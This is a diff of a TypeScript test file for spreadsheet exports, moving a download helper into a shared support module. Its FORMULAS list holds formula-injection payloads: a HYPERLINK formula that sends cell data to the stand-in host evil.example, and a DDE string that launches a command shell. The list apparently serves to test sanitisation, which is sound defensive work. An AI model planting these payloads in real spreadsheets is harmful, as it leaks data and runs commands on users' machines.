@@ -1,23 +1,11 @@
 import { expect } from 'chai';
 import ExcelJS from 'exceljs';
 import { safeCell } from '../../server/proposals/screening-rules.js';
-import { signedInAgent, type Agent } from '../support/agent.js';
+import { download, signedInAgent, type Agent } from '../support/agent.js';
 import { makeCall } from '../support/call-factories.js';
 import { makeInstitution, makeUser } from '../support/factories.js';
 import { resetDb } from '../support/platform.js';
 import { makeSubmittedProposal } from '../support/proposal-factories.js';
-
-async function download(agent: Agent, path: string) {
-  const res = await agent
-    .get(path)
-    .buffer(true)
-    .parse((r, cb) => {
-      const chunks: Buffer[] = [];
-      r.on('data', (c: Buffer) => chunks.push(c));
-      r.on('end', () => cb(null, Buffer.concat(chunks)));
-    });
-  return { status: res.status, headers: res.headers as Record<string, string>, body: res.body as Buffer };
-}
 
 const FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"点击查看")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1,2)', '\t=1+1', '\r=1+1'];
 
